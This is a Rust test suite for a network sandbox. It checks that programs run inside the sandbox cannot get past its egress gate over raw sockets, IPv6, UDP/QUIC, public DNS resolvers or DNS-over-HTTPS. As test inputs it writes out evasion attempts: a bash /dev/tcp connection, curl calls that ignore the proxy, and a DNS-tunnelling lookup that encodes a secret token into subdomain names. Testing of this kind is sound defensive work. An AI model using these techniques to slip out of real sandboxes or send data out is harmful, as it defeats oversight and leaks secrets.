//! Attempts to bypass the gate: each works without the wall, and fails behind it.

use std::net::{IpAddr, Ipv4Addr};

use crate::support::{Place, Watch, direct, inside, not_run, reaches_only_without_wall, tests};

tests![
    h01_without_an_allowed_host_nothing_leaves,
    h02_loopback_is_the_only_interface,
    h03_raw_packet_and_ping_sockets_reach_nothing,
    h04_ipv6_reaches_nothing,
    h05_programs_that_ignore_the_proxy_reach_nothing_denied,
    h05_datagrams_and_quic_reach_nothing,
    h06_dns_names_do_not_exfiltrate_data,
    h06_other_name_servers_are_not_reached,
];

const FILES: [&str; 2] = ["--allow-host", "files.test"];

/// Runs `dial.py` with these arguments.
fn dial<'a>(words: &[&'a str]) -> Vec<&'a str> {
    [&["python3", "-c", include_str!("programs/dial.py")], words].concat()
}

fn h01_without_an_allowed_host_nothing_leaves() {
    let place = Place::new();
    let address = place.address.to_string();
    let own = std::net::TcpListener::bind("127.0.0.1:0").expect("the machine has a loopback");
    own.set_nonblocking(true).expect("a listener can be asked");
    let port = own.local_addr().expect("it has an address").port().to_string();
    for words in
        [&["tcp", &address, "443"][..], &["udp", &address, "5000"], &["tcp", &place.name, "443"]]
    {
        let run = reaches_only_without_wall(&place, &[], &dial(words));
        assert_eq!(run.code, 1, "{words:?}: {run:?}");
    }
    assert_eq!(direct(&dial(&["tcp", "127.0.0.1", &port])).code, 0);
    drop(own.accept().expect("the machine was reached without the wall"));
    assert_eq!(inside(&[], &dial(&["tcp", "127.0.0.1", &port])).code, 1);
    assert!(own.accept().is_err(), "the machine's loopback was reached from inside");
}

fn h02_loopback_is_the_only_interface() {
    let script = "import socket; print([name for _, name in socket.if_nameindex()])";
    assert_eq!(direct(&["python3", "-c", script]).text(), "['lo', 'wan']\n");
    for flags in [&[][..], &FILES] {
        assert_eq!(inside(flags, &["python3", "-c", script]).text(), "['lo']\n");
    }
}

fn h03_raw_packet_and_ping_sockets_reach_nothing() {
    if !rustix::process::geteuid().is_root() {
        return not_run("without root no raw socket can be opened without the wall either");
    }
    for kind in ["raw", "packet"] {
        let place = Place::new();
        let address = place.address.to_string();
        let run = reaches_only_without_wall(&place, &FILES, &dial(&[kind, &address, "0"]));
        assert_eq!(run.code, 1, "{kind}: {run:?}");
    }
    let ping = inside(&FILES, &dial(&["ping", "93.184.1.1", "0"]));
    assert_eq!(ping.code, 1, "{ping:?}");
}

fn h04_ipv6_reaches_nothing() {
    let six = "2a0e:5700:4::4";
    let address: IpAddr = six.parse().expect("it is an address");
    for words in [&["tcp", six, "443"][..], &["udp", six, "443"]] {
        let watch = Watch::start();
        direct(&dial(words));
        watch.wait("IPv6 on the machine", |entry| entry.to.contains(six));
        let watch = Watch::start();
        assert_eq!(inside(&FILES, &dial(words)).code, 1);
        assert_eq!(watch.to_address(address), []);
    }
    let place = Place::new();
    let mapped = format!("::ffff:{}", place.address);
    let run = reaches_only_without_wall(&place, &FILES, &dial(&["tcp", &mapped, "443"]));
    assert_eq!(run.code, 1);
    // The kernel would assign a link-local address to any real interface.
    let addresses = "print(open('/proc/net/if_inet6').read())";
    assert!(!inside(&FILES, &["python3", "-c", addresses]).stdout.contains("fe80"));
}

fn h05_programs_that_ignore_the_proxy_reach_nothing_denied() {
    let place = Place::new();
    let (named, literal) =
        (format!("https://{}/", place.name), format!("http://{}/", place.address));
    let (by_bash, address) = (
        format!("exec 3<>/dev/tcp/{}/80 && echo hello >&3", place.address),
        place.address.to_string(),
    );
    for words in [
        &["env", "-i", "curl", "-sS", "-k", "-m", "5", &named][..],
        &["curl", "-sS", "-k", "-m", "5", "--noproxy", "*", &named],
        &["env", "NO_PROXY=*", "no_proxy=*", "curl", "-sS", "-k", "-m", "5", &named],
        &["curl", "-sS", "-m", "5", "--noproxy", "*", &literal],
        &["bash", "-c", &by_bash],
        &[
            "perl",
            "-MIO::Socket::INET",
            "-e",
            "IO::Socket::INET->new($ARGV[0]) or die",
            &format!("{address}:443"),
        ],
        &dial(&["tcp", &address, "443"]),
        &dial(&["tcp", &place.name, "443"]),
    ] {
        let run = reaches_only_without_wall(&place, &FILES, words);
        assert_ne!(run.code, 0, "{words:?}: {run:?}");
    }
}

fn h05_datagrams_and_quic_reach_nothing() {
    let place = Place::new();
    let address = place.address.to_string();
    for port in ["443", "53", "123", "5000"] {
        let run = reaches_only_without_wall(&place, &FILES, &dial(&["udp", &address, port]));
        assert_eq!(run.code, 1, "{run:?}");
    }
    // An allowed name resolves to an address for TCP only; datagrams to it are dropped.
    let watch = Watch::start();
    direct(&dial(&["udp", "files.test", "443"]));
    watch.wait("QUIC on the machine", |entry| entry.event == "udp" && entry.to.ends_with(":443"));
    let watch = Watch::start();
    inside(&FILES, &dial(&["udp", "files.test", "443"]));
    let quic = |entry: &stockade_internet::LogEntry| {
        entry.event == "udp" && entry.to.ends_with(":443") && entry.to.starts_with("93.184.1.1")
    };
    assert_eq!(watch.seen(quic), []);
}

fn h06_dns_names_do_not_exfiltrate_data() {
    let look_up = "import socket, sys\nfor name in sys.argv[1:]:\n try: print(socket.getaddrinfo(name, 443))\n except OSError as error: print(error)";
    let token = "c2VjcmV0LXRva2Vu";
    // In a zone that is not allowed, in one that is, and below an allowed wildcard.
    let names = [format!("{token}.tunnel.test"), format!("{token}.files.test")];
    let words = ["python3", "-c", look_up, &names[0], &names[1]];
    let carries = |entry: &stockade_internet::LogEntry| {
        entry.name.contains(&token.to_lowercase()) || entry.detail.contains(token)
    };
    let watch = Watch::start();
    direct(&words);
    watch.wait("the token on the machine", carries);
    for host in ["files.test", "*.files.test", "*.tunnel.test"] {
        let watch = Watch::start();
        let run = inside(&["--allow-host", host], &words);
        assert_eq!(run.code, 0, "{run:?}");
        assert_eq!(watch.seen(carries), [], "with {host}: {run:?}");
    }
}

fn h06_other_name_servers_are_not_reached() {
    // Public resolvers, DNS over TLS, and multicast and broadcast name services.
    for (kind, address, port) in [
        ("udp", [8, 8, 8, 8], "53"),
        ("tcp", [8, 8, 8, 8], "53"),
        ("tcp", [8, 8, 8, 8], "853"),
        ("tcp", [8, 8, 8, 8], "443"),
        ("udp", [224, 0, 0, 251], "5353"),
        ("udp", [224, 0, 0, 252], "5355"),
        ("udp", [192, 168, 77, 255], "137"),
    ] {
        let place = Place::at(Ipv4Addr::from(address));
        let text = place.address.to_string();
        let run = reaches_only_without_wall(&place, &FILES, &dial(&[kind, &text, port]));
        assert_eq!(run.code, 1, "{kind} {text} {port}: {run:?}");
    }
    let place = Place::new();
    let url = format!("https://{}/dns-query?dns=AAAA", place.address);
    reaches_only_without_wall(&place, &FILES, &["curl", "-sS", "-k", "-m", "5", &url]);
}
